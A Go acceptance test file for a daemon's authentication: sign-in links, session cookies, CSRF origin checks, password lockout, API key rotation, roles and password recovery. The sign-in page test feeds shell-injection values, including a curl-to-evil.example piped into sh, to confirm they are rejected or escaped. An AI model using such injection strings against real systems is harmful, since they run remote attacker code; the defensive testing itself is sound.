package daemon_test

import (
	"bytes"
	"context"
	"errors"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"edgesvc.dev/svc/daemon"
	"edgesvc.dev/svc/daemon/command"
)

// ask calls a members' operation.
func (in *instance) ask(t *testing.T, name, credential, body string, headers ...string) answer {
	t.Helper()
	return in.procedure(t, name, credential, body, headers...)
}

// TestAcceptSignIn signs in by link, once, and by password, and looks at the
// cookie that a browser gets.
func TestAcceptSignIn(t *testing.T) {
	in := start(t)
	token := strings.SplitAfter(in.A.SignInLink, "token=")[1]
	link := func(password string) answer {
		return in.ask(t, "auth.login", "", `{"linkToken":"`+token+`","newPassword":"`+password+`"}`)
	}
	if a := link("short"); a.StatusCode != 422 {
		t.Errorf("a short password: %s", a.Status)
	}
	a := link("correct horse battery")
	if a.StatusCode != 200 {
		t.Fatalf("%s %s", a.Status, a.Body)
	}
	cookie := a.Cookies()[0]
	if cookie.Name != "svc_session" || !cookie.HttpOnly || cookie.SameSite != http.SameSiteLaxMode || cookie.Path != "/" || cookie.Secure || cookie.Value != a.JSON(t)["token"] {
		t.Errorf("%v", cookie)
	}
	if a := link("correct horse battery"); a.StatusCode != 401 || a.JSON(t)["code"] != "invalid_credentials" {
		t.Errorf("the link works twice: %s", a.Status)
	}
	if a := in.ask(t, "auth.login", "", `{"email":"A@example.test","password":"correct horse battery"}`); a.StatusCode != 200 {
		t.Errorf("by password: %s %s", a.Status, a.Body)
	}
	session := cookie.Value
	if a := in.ask(t, "auth.logout", session, `{}`); a.StatusCode != 200 || a.Cookies()[0].Expires.After(time.Now()) {
		t.Errorf("logout: %s %v", a.Status, a.Cookies())
	}
	if a := in.ask(t, "auth.session", session, `{}`); a.StatusCode != 401 || a.JSON(t)["code"] != "session_required" {
		t.Errorf("after logout: %s", a.Status)
	}
}

// TestAcceptCookieOrigin lets the cookie work from the daemon's own pages only,
// and keys nowhere in place of a session.
func TestAcceptCookieOrigin(t *testing.T) {
	in := start(t)
	session := in.session(t, in.A)
	for _, c := range []struct {
		headers []string
		status  int
		code    any
	}{
		{nil, 200, nil},
		{[]string{"Origin", in.URL}, 200, nil},
		{[]string{"Origin", "https://evil.example"}, 403, "csrf_failed"},
		{[]string{"Origin", "null"}, 403, "csrf_failed"},
		{[]string{"Origin", in.URL + ".evil.example"}, 403, "csrf_failed"},
		{[]string{"Sec-Fetch-Site", "cross-site"}, 403, "csrf_failed"},
		{[]string{"Sec-Fetch-Site", "same-site"}, 403, "csrf_failed"},
		{[]string{"Content-Type", "text/plain"}, 415, "UNSUPPORTED_MEDIA_TYPE"},
		{[]string{"Content-Type", "application/x-www-form-urlencoded"}, 415, "UNSUPPORTED_MEDIA_TYPE"},
	} {
		a := in.ask(t, "auth.session", "", `{}`, append(c.headers, "Cookie", "svc_session="+session)...)
		if a.StatusCode != c.status || a.JSON(t)["code"] != c.code {
			t.Errorf("%v: %s %s", c.headers, a.Status, a.Body)
		}
	}
	for _, credential := range []string{"", in.A.Key, "sess_nonsense"} {
		a := in.ask(t, "auth.session", credential, `{}`)
		if a.StatusCode != 401 || a.JSON(t)["code"] != "session_required" || a.Header.Get("WWW-Authenticate") == "" {
			t.Errorf("%.9s: %s %s", credential, a.Status, a.Body)
		}
	}
	if a := in.ask(t, "auth.login", "", `{"email":"a@example.test","password":"x"}`, "Origin", "https://evil.example"); a.StatusCode != 403 {
		t.Errorf("signing in from elsewhere: %s", a.Status)
	}
}

// TestAcceptLockOut has a network wait after ten guesses at a password, and no
// other: the owner signs in from elsewhere.
func TestAcceptLockOut(t *testing.T) {
	in := start(t, func(c *daemon.Config) { c.BehindProxy = true })
	in.session(t, in.A)
	try := func(address, password string) answer {
		return in.ask(t, "auth.login", "", `{"email":"a@example.test","password":"`+password+`"}`, "X-Forwarded-For", address)
	}
	for i := range 10 {
		if a := try("198.51.100.7", "guess"); a.StatusCode != 401 {
			t.Fatalf("guess %d: %s", i, a.Status)
		}
	}
	if a := try("203.0.113.5", "correct horse battery"); a.StatusCode != 200 {
		t.Errorf("from elsewhere: %s %s", a.Status, a.Body)
	}
	for range 12 { // twice as long each time: no machine is so slow that it does not wait in the end
		if a := try("198.51.100.8", "guess"); a.StatusCode == 429 && a.Header.Get("Retry-After") != "" {
			return
		}
	}
	t.Error("the network does not wait")
}

// TestAcceptStaleCookie signs in with the cookie of a session that is over, which
// counts as no guess.
func TestAcceptStaleCookie(t *testing.T) {
	in := start(t)
	in.session(t, in.A)
	for range 12 {
		a := in.ask(t, "auth.login", "", `{"email":"a@example.test","password":"correct horse battery"}`, "Cookie", "svc_session=sess_over")
		if a.StatusCode != 200 {
			t.Fatalf("%s %s", a.Status, a.Body)
		}
	}
	if a := in.send(t, "GET", v1+"/posts", "svc_mistyped", ""); a.StatusCode != 401 {
		t.Errorf("the first wrong key: %s", a.Status)
	}
}

// TestAcceptSignInPage shows a command with a link's token, and nothing else that
// the address may hold.
func TestAcceptSignInPage(t *testing.T) {
	in := start(t)
	token := strings.SplitAfter(in.A.SignInLink, "token=")[1]
	if a := in.send(t, "GET", "/sign-in?token="+token+"&x=';id;'", "", ""); a.StatusCode != 200 || !strings.Contains(string(a.Body), "token="+token+"&#39;</code>") {
		t.Errorf("%s %s", a.Status, a.Body)
	}
	for _, bad := range []string{"x';curl${IFS}evil.example|sh;'", "", "a%0Ab", "a%27b", "$(id)", "a;b", strings.Repeat("a", 101)} {
		a := in.send(t, "GET", "/sign-in?token="+bad, "", "")
		if a.StatusCode != 400 || strings.Contains(string(a.Body), "svcctl") || bad != "" && strings.Contains(string(a.Body), bad) {
			t.Errorf("%q: %s %s", bad, a.Status, a.Body)
		}
	}
}

// TestAcceptKeys makes, changes, rolls and revokes a key; each change holds from
// the next request on.
func TestAcceptKeys(t *testing.T) {
	in := start(t)
	session := in.session(t, in.A)
	works := func(key, what string, status int, code any) {
		t.Helper()
		a := in.send(t, "POST", v1+"/posts", key, `{"title":"a","content":"b"}`)
		if a.StatusCode != status || a.JSON(t)["code"] != code {
			t.Errorf("%s: %s %s", what, a.Status, a.Body)
		}
	}
	for body, pointer := range map[string]string{
		`{"name":"a","expiresAt":"2020-01-01T00:00:00Z"}`: "/expiresAt", `{"name":"a","expiresAt":"soon"}`: "/expiresAt",
		`{"name":"a","scopes":["posts:fly"]}`: "/scopes", `{"name":""}`: "/name",
	} {
		a := in.ask(t, "apiKeys.create", session, body)
		e, _ := a.JSON(t)["errors"].([]any)
		if a.StatusCode != 422 || len(e) != 1 || e[0].(map[string]any)["pointer"] != pointer {
			t.Errorf("%s: %s %s", body, a.Status, a.Body)
		}
	}
	made := in.ask(t, "apiKeys.create", session, `{"name":"a","scopes":["publisher"]}`).JSON(t)
	id, first := made["id"].(string), made["secret"].(string)
	works(first, "publisher", 201, nil)
	in.ask(t, "apiKeys.update", session, `{"id":"`+id+`","scopes":["read-only"]}`)
	works(first, "made read-only", 403, "insufficient_scope")
	in.ask(t, "apiKeys.update", session, `{"id":"`+id+`","scopes":["posts:write"]}`)
	second := in.ask(t, "apiKeys.roll", session, `{"id":"`+id+`","graceHours":1}`).JSON(t)["secret"].(string)
	works(first, "rolled, in its grace", 201, nil)
	works(second, "rolled", 201, nil)
	third := in.ask(t, "apiKeys.roll", session, `{"id":"`+id+`"}`).JSON(t)["secret"].(string)
	works(second, "rolled without grace", 401, "revoked_key")
	in.ask(t, "apiKeys.revoke", session, `{"id":"`+id+`"}`)
	works(third, "revoked", 401, "revoked_key")
	if a := in.ask(t, "apiKeys.roll", session, `{"id":"`+id+`"}`); a.StatusCode != 409 {
		t.Errorf("roll of a revoked key: %s", a.Status)
	} else if e := a.JSON(t); e["from"] != "revoked" || e["to"] != "active" {
		t.Errorf("%s", a.Body)
	}
	list := string(in.ask(t, "apiKeys.list", session, `{}`).Body)
	if strings.Contains(list, third) || !strings.Contains(list, third[len(third)-4:]) {
		t.Errorf("list: %s", list)
	}
}

// TestAcceptRoles tries what each role may just do and just not do.
func TestAcceptRoles(t *testing.T) {
	in := start(t)
	owner := in.session(t, in.A)
	member := func(role string) string {
		made := in.ask(t, "team.invite", owner, `{"email":"`+role+`@example.test","role":"`+role+`"}`).JSON(t)
		token := strings.SplitAfter(made["link"].(string), "token=")[1]
		return in.ask(t, "auth.login", "", `{"linkToken":"`+token+`"}`).JSON(t)["token"].(string)
	}
	tokens := map[string]string{"owner": owner}
	for _, role := range []string{"admin", "editor", "operator", "viewer"} {
		tokens[role] = member(role)
	}
	for _, c := range []struct{ name, body, allowed string }{
		{"team.members", `{}`, "owner admin editor operator viewer"},
		{"team.brand.update", `{"voice":"plain"}`, "owner admin editor"},
		{"apiKeys.list", `{}`, "owner admin"},
		{"team.auditLog", `{}`, "owner admin"},
		{"team.invite", `{"email":"new@example.test","role":"viewer"}`, "owner admin"},
	} {
		for role, token := range tokens {
			a := in.ask(t, c.name, token, c.body)
			if may := strings.Contains(c.allowed, role); may != (a.StatusCode == 200) || !may && a.JSON(t)["code"] != "role_required" {
				t.Errorf("%s by %s: %s %s", c.name, role, a.Status, a.Body)
			}
		}
	}
}

// TestAcceptLostPassword gives a member who forgot the password a new link, beside
// the running daemon and on the stopped one's data. Using it replaces the password and ends what the
// old one had opened; the act is in the audit log.
func TestAcceptLostPassword(t *testing.T) {
	data := t.TempDir()
	link := func(args ...string) (int, string) {
		var out, err bytes.Buffer
		status := command.Run(context.Background(), append([]string{"link", "--data", data}, args...), &out, &err, func(string) (string, bool) { return "", false })
		return status, out.String() + err.String()
	}
	if status, said := link("--email", "a@example.test"); status == 0 || !strings.Contains(said, "no data") {
		t.Errorf("without data: %d %s", status, said)
	}
	if _, err := os.Stat(data + "/svc.db"); err == nil {
		t.Error("it made a data file")
	}
	in := start(t, func(c *daemon.Config) { c.Data = data })
	old := in.session(t, in.A)
	if status, said := link("--email", "a@example.test"); status != 0 || !strings.Contains(said, "token=link_") {
		t.Errorf("beside a running daemon: %d %s", status, said)
	}
	if err := in.stop(); err != nil {
		t.Fatal(err)
	}
	if status, said := link("--email", "nobody@example.test"); status == 0 || !strings.Contains(said, "nobody@example.test") {
		t.Errorf("of nobody: %d %s", status, said)
	}
	_, replaced := link("--email", "a@example.test")
	status, said := link("--email", " A@Example.test")
	if status != 0 {
		t.Fatal(said)
	}
	again := reopen(t, data)
	signIn := func(said string) answer {
		token, _, _ := strings.Cut(strings.SplitAfter(said, "token=")[1], "\n")
		return again.ask(t, "auth.login", "", `{"linkToken":"`+token+`","newPassword":"another horse battery"}`)
	}
	if a := signIn(replaced); a.StatusCode != 401 {
		t.Errorf("the link before: %s", a.Status)
	}
	a := signIn(said)
	if a.StatusCode != 200 {
		t.Fatalf("%s %s", a.Status, a.Body)
	}
	if a := again.ask(t, "auth.session", old, `{}`); a.StatusCode != 401 {
		t.Errorf("the old session: %s", a.Status)
	}
	for password, want := range map[string]int{"correct horse battery": 401, "another horse battery": 200} {
		if a := again.ask(t, "auth.login", "", `{"email":"a@example.test","password":"`+password+`"}`); a.StatusCode != want {
			t.Errorf("%s: %s", password, a.Status)
		}
	}
	if log := again.ask(t, "team.auditLog", a.JSON(t)["token"].(string), `{}`); !strings.Contains(string(log.Body), `"team.link"`) {
		t.Errorf("audit log: %s", log.Body)
	}
}

// reopen serves data that has its teams already.
func reopen(t *testing.T, data string, adjust ...func(*daemon.Config)) *instance {
	t.Helper()
	cfg := daemon.DefaultConfig()
	cfg.Data, cfg.Admin = data, ""
	for _, f := range adjust {
		f(cfg)
	}
	d, err := daemon.Open(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	d.SetBase(ln.Addr())
	ctx, cancel := context.WithCancel(context.Background())
	served := make(chan error, 1)
	go func() { served <- d.Serve(ctx, ln) }()
	stop := sync.OnceValue(func() error {
		cancel()
		return errors.Join(<-served, d.Close())
	})
	t.Cleanup(func() {
		if err := stop(); err != nil {
			t.Errorf("stop: %v", err)
		}
	})
	return &instance{Daemon: d, URL: "http://" + ln.Addr().String(), Addr: ln.Addr().String(), stop: stop}
}
